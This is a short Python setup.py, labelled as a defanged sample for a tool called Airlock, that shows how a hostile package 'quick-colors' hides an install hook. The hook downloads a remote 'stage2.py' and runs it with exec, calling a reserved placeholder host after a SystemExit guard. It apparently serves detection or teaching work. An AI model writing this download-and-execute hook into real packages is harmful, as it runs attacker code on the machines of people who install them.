# HARMLESS SAMPLE, written by hand for Airlock. It shows what a hostile setup.py looks like, and is defanged twice: the
# first statement ends it, and the host below is a reserved name (RFC 6761) that resolves nowhere.
raise SystemExit("quick-colors is a sample of a hostile package: there is nothing to install")

import urllib.request

from setuptools import setup
from setuptools.command.install import install


class InstallAndRun(install):
    def run(self):
        install.run(self)
        exec(urllib.request.urlopen("https://payload.example.invalid/stage2.py").read())


setup(name="quick-colors", version="1.0.2", packages=["quick_colors"], cmdclass={"install": InstallAndRun})
